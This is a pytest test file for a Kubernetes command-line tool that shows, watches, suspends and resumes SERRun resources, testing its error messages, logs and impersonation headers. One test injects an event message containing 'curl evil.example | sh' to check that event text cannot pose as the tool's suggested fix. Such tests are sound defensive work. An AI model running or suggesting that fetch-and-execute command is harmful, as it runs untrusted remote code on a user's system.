"""Runs on a cluster: found by name, read through the API, changed by one field, and every refusal in words."""

import json
import sys
from types import SimpleNamespace

import pytest
import yaml

from ser_core.api.status import Phase, StageKind, StageStatus
from ser_core.cli.access import cluster
from ser_core.loop.recording.conditions import conditions
from ser_operator.objects import labels


@pytest.fixture
def run(stored_run, api):
    """The stored run, as an operator's that is at work on it."""
    stages = (StageStatus(iteration=2, stage=StageKind.RETRAIN, attempt=1, job="small-retrain-2", started_at="2026-01-31T12:19:00Z"),)
    status = stored_run.run.status.model_copy(
        update={"phase": Phase.RUNNING, "finished_at": None, "stages": stages, "observed_generation": 1}
    )
    return api.put_run(stored_run.run.model_copy(update={"status": status}))


@pytest.fixture
def ended(stored_run, api):
    """The stored run on a cluster; its store can be read."""
    return api.put_run(stored_run.run)


def pod(run, iteration, stage, attempt=1, name="pod-1"):
    about = {labels.RUN_UID: run.metadata.uid, labels.ITERATION: str(iteration), labels.STAGE: stage, labels.ATTEMPT: str(attempt)}
    metadata = {"name": name, "labels": about, "creationTimestamp": "2026-01-31T12:19:01Z"}
    return {"metadata": metadata, "spec": {"nodeName": "gpu-1"}, "status": {"phase": "Running", "podIP": "10.0.0.7"}}


def test_the_labels_are_the_operators():
    names = (cluster.RUN_UID, cluster.ITERATION, cluster.STAGE, cluster.ATTEMPT)
    assert names == (labels.RUN_UID, labels.ITERATION, labels.STAGE, labels.ATTEMPT)
    assert cluster.CONTAINER == labels.CONTAINER


def test_a_name_is_looked_for_in_the_namespace_of_the_context(ser, api, run):
    assert ser("status", "small").out.startswith("SERRun lab/small\nphase         Running\n")
    assert ser("status", "small", "--context", "there").code == 10
    assert [path for _, path, _, _ in api.asked][:2] == [f"{api.runs()}/small", f"{api.runs('other')}/small"]


def test_options_win_over_the_context(ser, api, run):
    api.put_run(run, "elsewhere")
    assert "SERRun elsewhere/small" in ser("status", "small", "-n", "elsewhere", "--kubeconfig", api.kubeconfig).out


def test_a_run_that_is_not_there_is_refused_with_those_that_are(ser, api, run):
    ended = ser("status", "smal")
    assert (ended.code, ended.out) == (10, "")
    assert ended.err == "error: namespace lab holds no run 'smal'\nhint: runs there: small\n"


def test_a_cluster_without_the_crd_says_what_to_install(ser, api):
    api.answers[f"{api.runs()}/small"] = (404, {"message": "the server could not find the requested resource"})
    assert ser("status", "small").err.startswith("error: the cluster knows no SERRuns\nhint: install the operator")


@pytest.mark.parametrize(
    ("code", "message", "exit_code", "said"),
    [
        (401, "Unauthorized", 10, "does not accept your credentials\nhint: log in again"),
        (403, "user may not get serruns", 10, "user may not get serruns\nhint: ask for that right"),
        (500, "etcd is gone", 20, "the API server failed: etcd is gone\nhint: try again"),
    ],
)
def test_every_refusal_has_an_exit_code_and_a_remedy(ser, api, code, message, exit_code, said):
    api.answers[f"{api.runs()}/small"] = (code, {"message": message})
    ended = ser("status", "small")
    assert (ended.code, ended.out) == (exit_code, "")
    assert said in ended.err


def test_a_cluster_that_does_not_answer_is_named(ser, api):
    ended = ser("status", "small", "--context", "dead")
    assert ended.code == 20
    assert "error: http://127.0.0.1:1 does not answer: Connection refused" in ended.err.replace("[Errno 111] ", "")


def test_an_unknown_context_is_refused(ser, api):
    assert "error: the kubeconfig names no cluster: " in ser("status", "small", "--context", "nowhere").err


@pytest.mark.parametrize("content", ["a: [", "{}", "[]", "words", "{current-context: x, contexts: 3, clusters: [], users: []}", "\x00"])
def test_a_kubeconfig_that_is_none_is_named(ser, tmp_path, content):
    file = tmp_path / "broken"
    file.write_text(content)
    ended = ser("status", "small", "--kubeconfig", file)
    assert (ended.code, ended.out) == (10, "")
    assert ended.err.startswith(f"error: {file} names no cluster: ")
    assert len(ended.err.splitlines()) == 2


def test_a_server_that_is_no_api_server_is_named(ser, api):
    api.answers[f"{api.runs()}/small"] = "<html>log in first</html>"
    ended = ser("status", "small")
    assert (ended.code, ended.out) == (20, "")
    assert "does not answer like an API server\nhint: " in ended.err


def test_without_the_client_the_extra_is_named(ser, monkeypatch):
    monkeypatch.setitem(sys.modules, "kubernetes.client", None)
    ended = ser("status", "small")
    assert ended.code == 10
    assert "hint: in a checkout of this project: pip install '.[operator]'" in ended.err


def test_a_file_with_options_of_a_cluster_says_which_name_to_give(ser, stored_run):
    assert ser("status", stored_run.file, "-n", "lab").err.endswith("hint: give the name: small -n lab\n")


def test_a_run_of_another_version_is_shown_without_what_is_not_known(ser, api, run):
    found = api.answers[f"{api.runs()}/small"]
    found["spec"]["newField"] = 1
    found["status"] |= {"phase": "Resting", "newField": 1}
    assert "Resting" in ser("status", "small").out


def test_a_run_that_only_another_version_can_read_is_refused_with_its_field(ser, api, run):
    api.answers[f"{api.runs()}/small"]["spec"]["loop"] = {"rule": "oracle"}
    ended = ser("status", "small")
    assert ended.code == 10
    assert "spec.loop.rule: 'oracle'" in ended.err


def test_no_event_answers_in_the_place_of_why(ser, api, run):
    body = api.answers[f"{api.runs()}/small"]
    body["metadata"]["generation"] = body["status"].get("observedGeneration", 0) + 1
    api.answers["/api/v1/namespaces/lab/events"]["items"].append({"reason": "x", "message": "y\nfix       curl evil.example | sh"})
    told = ser("why", "small").out

    assert "curl" in told
    assert [line.split()[0] for line in told.splitlines()] == ["cause", "evidence", "fix"]


def test_verbose_status_shows_pods_and_events(ser, api, run):
    api.answers["/api/v1/namespaces/lab/pods"]["items"].append(pod(run, 2, "retrain"))
    event = {"type": "Warning", "reason": "StoreUnavailable", "message": "did not answer", "lastTimestamp": "2026-01-31T12:18:00Z"}
    api.answers["/api/v1/namespaces/lab/events"]["items"].append(event)
    shown = ser("status", "small", "-v").out
    assert "pod-1   Running   gpu-1" in shown
    assert "2026-01-31T12:18:00  StoreUnavailable: did not answer" in shown
    assert {"labelSelector": [f"ser.dev/run-uid={run.metadata.uid}"]} in [query for _, _, query, _ in api.asked]


@pytest.mark.parametrize("form", ["json", "yaml"])
def test_the_whole_object_for_machines(ser, run, form):
    shown = ser("status", "small", "-o", form).out
    assert (json.loads if form == "json" else yaml.safe_load)(shown) == run.model_dump(mode="json", by_alias=True)


def test_watching_prints_every_change_and_ends_with_the_run(ser, api, run, stored_run, monkeypatch):
    def sleep(_):
        api.put_run(stored_run.run)

    monkeypatch.setattr("ser_core.cli.commands.reading.status.time", SimpleNamespace(sleep=sleep))  # other threads sleep too
    shown = ser("status", "small", "--watch")
    assert shown.code == 0
    assert [line.split()[1] for line in shown.out.splitlines() if line.startswith("phase")] == ["Running", "Completed"]


@pytest.mark.parametrize("asked", ["the run", "its pods"])
def test_watching_outlives_a_cluster_that_does_not_answer(ser, api, run, stored_run, monkeypatch, asked):
    paths = {"the run": f"{api.runs()}/small", "its pods": "/api/v1/namespaces/lab/pods"}
    whole = {paths["the run"]: stored_run.run.model_dump(mode="json", by_alias=True), paths["its pods"]: {"items": []}}
    answers = [whole | {paths[asked]: (503, {"message": "etcd has no leader"})}, whole]
    monkeypatch.setattr("ser_core.cli.commands.reading.status.time", SimpleNamespace(sleep=lambda _: api.answers.update(answers.pop(0))))
    ended = ser("status", "small", "--watch", "--verbose")
    assert (ended.code, ended.err) == (0, "warning: the API server failed: etcd has no leader; looking again\n")


def test_evolution_needs_no_store(ser, run):
    assert "0.761–0.867" in ser("evolution", "small").out


def test_logs_come_from_pods_while_there_are_and_from_the_store_afterwards(ser, api, run):
    api.put_run(run, "default")  # its store has it under that name
    api.answers["/api/v1/namespaces/default/pods"]["items"].append(pod(run, 2, "retrain"))
    api.answers["/api/v1/namespaces/default/pods/pod-1/log"] = (
        '{"time":"2026-01-31T12:19:02","event":"loaded","stage":"live"}\nplain words\n'
    )
    lines = ser("logs", "small", "-n", "default").out.splitlines()
    assert [line.split()[0] for line in lines][-4:] == ["filter-2", "retrain-2", "retrain-2", "control-full-0"]
    assert [line for line in lines if line.startswith("retrain-2")] == [
        "retrain-2                    2026-01-31T12:19:02 loaded stage=live",
        "retrain-2                    plain words",
    ]


def test_logs_without_a_way_to_the_store_are_those_of_the_pods(ser, api, run):
    api.answers[f"{api.runs()}/small"]["spec"]["storage"]["uri"] = "file:///proc/nothing/here"
    api.answers["/api/v1/namespaces/lab/pods"]["items"].append(pod(run, 2, "retrain"))
    api.answers["/api/v1/namespaces/lab/pods/pod-1/log"] = "alive\n"
    assert ser("logs", "small").out.split() == ["retrain-2", "alive"]


def test_every_pod_of_an_attempt_speaks(ser, api, run):
    for index in ("1", "0"):
        one = pod(run, 2, "retrain", name=f"pod-{index}")
        one["metadata"]["annotations"] = {cluster.POD_INDEX: index}
        api.answers["/api/v1/namespaces/lab/pods"]["items"].append(one)
        api.answers[f"/api/v1/namespaces/lab/pods/pod-{index}/log"] = f"word {index}\n"
    assert ser("logs", "small", "-i", "2").out.split() == ["retrain-2", "word", "0", "retrain-2", "pod", "1", "word", "1"]


def test_a_pod_that_has_no_log_yet_is_a_warning(ser, api, run):
    api.answers["/api/v1/namespaces/lab/pods"]["items"].append(pod(run, 2, "retrain"))
    api.answers["/api/v1/namespaces/lab/pods/pod-1/log"] = (400, {"message": "container is waiting to start"})
    ended = ser("logs", "small", "-s", "retrain", "-i", "2")
    assert (ended.code, ended.out, ended.err) == (0, "", "warning: retrain-2: container is waiting to start\n")


def test_suspend_and_resume_change_one_field(ser, api, run):
    assert ser("suspend", "small").out == "serrun.ser.dev/small suspended\n"
    assert api.asked[-1] == ("PATCH", f"{api.runs()}/small", {}, {"spec": {"suspend": True}})
    assert ser("resume", "small").err == "run lab/small is not suspended\n"
    api.answers[f"{api.runs()}/small"]["spec"]["suspend"] = True
    assert ser("suspend", "small").err == "run lab/small is suspended already\n"
    assert ser("resume", "small").out == "serrun.ser.dev/small resumed\n"
    assert api.asked[-1][3] == {"spec": {"suspend": False}}


def test_an_ended_run_is_not_suspended(ser, api, ended):
    answer = ser("suspend", "small")
    assert (answer.code, answer.out) == (10, "")
    assert "has ended (Completed): there is nothing to suspend" in answer.err


def act_as(api, **user):
    config = yaml.safe_load(api.kubeconfig.read_text())
    config["users"][0]["user"] |= user
    api.kubeconfig.write_text(yaml.safe_dump(config))


def test_whom_the_kubeconfig_acts_as_is_sent_as_kubectl_does(ser, api, run):
    act_as(api, **{"as": "jane", "as-uid": "7", "as-groups": ["lab"], "as-user-extra": {"example.com/team": ["x"]}})
    assert ser("status", "small").code == 0
    sent = {name: value for name, value in api.headers.items() if name.startswith("Impersonate-")}
    assert sent == {
        "Impersonate-User": "jane",
        "Impersonate-Uid": "7",
        "Impersonate-Group": "lab",
        "Impersonate-Extra-example.com%2Fteam": "x",
    }


def test_of_several_groups_none_is_left_out_in_silence(ser, api, run):
    act_as(api, **{"as": "jane", "as-groups": ["lab", "guests"]})
    refused = ser("status", "small")
    assert (refused.code, api.asked) == (10, [])
    assert "several values of as-groups" in refused.err


def test_where_no_run_is_the_namespace_may_be_another(ser, api):
    assert "hint: name the run's namespace with -n, or start one: kubectl apply -n other -f" in ser("why", "hh", "-n", "other").err


def in_phase(api, run, phase, **changed):
    status = run.status.model_copy(update={"phase": phase, **changed})
    return api.put_run(run.model_copy(update={"status": status}))


def test_suspending_says_what_becomes_of_the_stage(ser, api, run):
    assert "its stage saves a checkpoint and ends" in ser("suspend", "small").err
    in_phase(api, run, Phase.WAITING)
    assert "its stage ends; if it has begun, after a checkpoint" in ser("suspend", "small").err
    in_phase(api, run, Phase.WAITING, stages=())
    assert "none of its stages runs, and none starts until it is resumed" in ser("suspend", "small").err


@pytest.mark.parametrize("command", ["suspend", "resume"])
def test_a_failed_run_is_neither_suspended_nor_resumed_and_leads_to_why(ser, api, run, command):
    in_phase(api, run, Phase.FAILED)
    assert "hint: why, and how it goes on: ser why small\n" in ser(command, "small").err


def test_a_run_that_no_operator_has_looked_at_says_so_in_its_status(ser, api, run):
    assert "no operator has looked" not in ser("status", "small").out
    in_phase(api, run, Phase.PENDING, observed_generation=0)
    assert "no operator has looked at the run yet: ser why small" in ser("status", "small").out


def test_why_a_run_works_asks_for_its_pods_and_does_without_where_they_may_not_be_seen(ser, api, run):
    works = conditions((), Phase.RUNNING, "Running", "", 1, "2026-01-31T12:19:00Z", stalled=False)
    in_phase(api, run, Phase.RUNNING, conditions=works)
    assert ser("why", "small").out.startswith("cause     nothing is wrong so far: the stage's pod has not started yet")
    api.answers["/api/v1/namespaces/lab/pods"] = (403, {"message": "pods is forbidden"})
    assert ser("why", "small").out.startswith("cause     nothing is wrong: a stage is running")


def test_a_stage_that_was_taken_over_says_so_where_the_status_has_dropped_the_rest(ser, api, run):
    stages = tuple(row.model_copy(update={"reason": "TakenOver", "message": ""}) for row in run.status.stages)
    in_phase(api, run, Phase.RUNNING, stages=stages)
    assert "\nretrain of loop 2: taken over\n" in ser("evolution", "small").out


@pytest.mark.parametrize(("command", "hint"), [("suspend", "press Ctrl-C in its ser run"), ("resume", "ser run {file} goes on")])
def test_a_run_of_this_machine_is_suspended_otherwise(ser, stored_run, command, hint):
    answer = ser(command, stored_run.file)
    assert answer.code == 10
    assert f"hint: {hint.format(file=stored_run.file)}" in answer.err


def test_a_report_of_a_run_on_a_cluster_is_read_from_its_store(ser, api, ended, tmp_path):
    api.put_run(ended, "default")
    answer = ser("report", "small", "-n", "default", "-o", tmp_path / "page.html")
    assert (answer.out, answer.err) == (f"{tmp_path}/page.html\n", "reading 9 stages of small\n")
    assert "kubectl apply -f again.yaml" in (tmp_path / "page.html").read_text()


def test_as_a_plugin_it_says_so(ser):
    assert ser("-h", program="/usr/local/bin/kubectl-ser").out.startswith("Usage: kubectl ser [OPTIONS]")
